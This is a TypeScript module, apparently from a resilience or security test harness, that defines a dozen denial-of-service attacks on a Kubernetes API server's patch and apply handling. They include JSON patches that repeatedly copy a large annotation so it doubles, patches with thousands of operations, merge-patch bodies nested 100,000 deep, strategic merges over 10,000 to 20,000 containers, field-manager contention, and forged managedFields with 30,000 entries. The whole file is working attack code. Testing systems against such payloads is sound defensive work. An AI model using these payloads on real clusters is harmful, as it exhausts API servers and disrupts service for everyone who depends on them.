import {
  APPLY,
  CONFIG_MAPS,
  JSON_PATCH,
  MERGE_PATCH,
  STRATEGIC_PATCH,
  configMap,
  upTo,
  type Attack,
  type Target,
} from "../target.ts";

const VICTIM = `${CONFIG_MAPS}/victim`;
const patch = (type: string, operations: unknown, query = "") =>
  ({ method: "PATCH", path: `${VICTIM}${query}`, type, body: JSON.stringify(operations) }) as const;

function copies(count: number): readonly object[] {
  const first = { op: "add", path: "/metadata/annotations", value: { seed: "x".repeat(1000) } };
  const from = "/metadata/annotations";
  return [first, ...upTo(count).map((n) => ({ op: "copy", from, path: `${from}/x${n}` }))];
}

/** A Deployment with many containers, for lists that are merged by key. */
const deployment = (name: string, containers: number): object => ({
  apiVersion: "apps/v1",
  kind: "Deployment",
  metadata: { name },
  spec: {
    selector: { matchLabels: { a: "b" } },
    template: {
      metadata: { labels: { a: "b" } },
      spec: { containers: upTo(containers).map((n) => ({ name: `c${n}`, image: "i" })) },
    },
  },
});
const DEPLOYMENTS = "/apis/apps/v1/namespaces/default/deployments";

async function withDeployment(t: Target, body: unknown, type: string, query = ""): Promise<void> {
  await t.create(DEPLOYMENTS, deployment("wide", 2_000));
  const path = `${DEPLOYMENTS}/wide?dryRun=All${query}`;
  await t.repeat(6, 2, () => ({ method: "PATCH", path, type, body: JSON.stringify(body) }));
}

export const patches: readonly Attack[] = [
  {
    title: "an account that may patch one ConfigMap doubles it by 24 copies",
    run: (t) => t.repeat(6, 3, () => ({ ...patch(JSON_PATCH, copies(24)), as: "patcher" })),
  },
  {
    title: "a dry run of a JSON patch doubles a ConfigMap by 18 copies",
    run: (t) => t.repeat(10, 5, () => ({ ...patch(JSON_PATCH, copies(18), "?dryRun=All"), as: "patcher" })),
  },
  {
    title: "a JSON patch has 9,999 additions",
    run: (t) => {
      const operations = upTo(9_999).map((n) => ({ op: "add", path: `/metadata/annotations/k${n}`, value: "v" }));
      const all = [{ op: "add", path: "/metadata/annotations", value: {} }, ...operations];
      return t.repeat(4, 2, () => ({ ...patch(JSON_PATCH, all, "?dryRun=All"), as: "patcher" }));
    },
  },
  {
    title: "a JSON patch inserts 9,999 times at the head of a list",
    run: (t) => {
      const operations = upTo(9_998).map(() => ({ op: "add", path: "/metadata/finalizers/0", value: "a.b/c" }));
      const all = [{ op: "add", path: "/metadata/finalizers", value: [] }, ...operations];
      return t.repeat(4, 2, () => ({ ...patch(JSON_PATCH, all, "?dryRun=All"), as: "patcher" }));
    },
  },
  {
    title: "a JSON patch tests 300 pointers of 3,000 segments",
    run: (t) => {
      const operations = upTo(300).map((n) => ({ op: "test", path: `/${"a/".repeat(3_000)}${n}`, value: 1 }));
      return t.repeat(6, 2, () => ({ ...patch(JSON_PATCH, operations, "?dryRun=All"), as: "patcher" }));
    },
  },
  {
    title: "a JSON patch moves one large value 9,999 times",
    run: (t) => {
      const there = { op: "add", path: "/data", value: { a: "x".repeat(300_000) } };
      const moves = upTo(9_998).map((n) => ({
        op: "move",
        from: `/data/${n % 2 ? "b" : "a"}`,
        path: `/data/${n % 2 ? "a" : "b"}`,
      }));
      return t.repeat(4, 2, () => ({ ...patch(JSON_PATCH, [there, ...moves], "?dryRun=All"), as: "patcher" }));
    },
  },
  {
    title: "a merge patch nests 100,000 objects",
    run: (t) => {
      const body = `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`;
      return t.repeat(10, 5, () => ({ method: "PATCH", path: VICTIM, type: MERGE_PATCH, body, as: "patcher" }));
    },
  },
  {
    title: "a strategic merge patch reorders 10,000 containers",
    run: (t) => {
      const names = upTo(10_000).map((n) => ({ name: `c${10_000 - n}` }));
      const spec = { containers: names.map((c) => ({ ...c, image: "j" })), "$setElementOrder/containers": names };
      return withDeployment(t, { spec: { template: { spec } } }, STRATEGIC_PATCH);
    },
  },
  {
    title: "a strategic merge patch deletes 20,000 containers that are not there",
    run: (t) => {
      const containers = upTo(20_000).map((n) => ({ name: `none${n}`, $patch: "delete" }));
      return withDeployment(t, { spec: { template: { spec: { containers } } } }, STRATEGIC_PATCH);
    },
  },
  {
    title: "server-side apply merges 10,000 containers",
    run: (t) => withDeployment(t, deployment("wide", 10_000), APPLY, "&fieldManager=f&force=true"),
  },
  {
    title: "51 field managers own the same 500 keys",
    lasts: 4_000,
    run: async (t) => {
      const data = Object.fromEntries(upTo(500).map((n) => [`key${n}`, "v"]));
      const body = JSON.stringify(configMap("managed", data));
      const path = `${CONFIG_MAPS}/managed`;
      await t.repeat(300, 8, (n) => ({
        method: "PATCH",
        path: `${path}?fieldManager=m${n % 51}&force=true`,
        type: APPLY,
        body,
      }));
    },
  },
  {
    title: "40 clients apply one object of 1,000 keys",
    run: (t) => {
      const data = Object.fromEntries(upTo(1_000).map((n) => [`key${n}`, "v"]));
      const body = JSON.stringify(configMap("applied", data));
      const path = `${CONFIG_MAPS}/applied?fieldManager=f&force=true`;
      return t.repeat(1_000, 40, () => ({ method: "PATCH", path, type: APPLY, body }));
    },
  },
  {
    title: "managed fields are forged with 30,000 entries",
    run: (t) => {
      const fields = Object.fromEntries(upTo(30_000).map((n) => [`f:key${n}`, {}]));
      const entry = {
        manager: "m",
        operation: "Apply",
        apiVersion: "v1",
        fieldsType: "FieldsV1",
        fieldsV1: { "f:data": fields },
      };
      const managed = {
        ...configMap("forged"),
        metadata: { name: "forged", managedFields: upTo(3).map((n) => ({ ...entry, manager: `m${n}` })) },
      };
      const body = JSON.stringify(managed);
      return t.repeat(6, 3, () => ({
        method: "POST",
        path: `${CONFIG_MAPS}?dryRun=All`,
        type: "application/json",
        body,
      }));
    },
  },
];
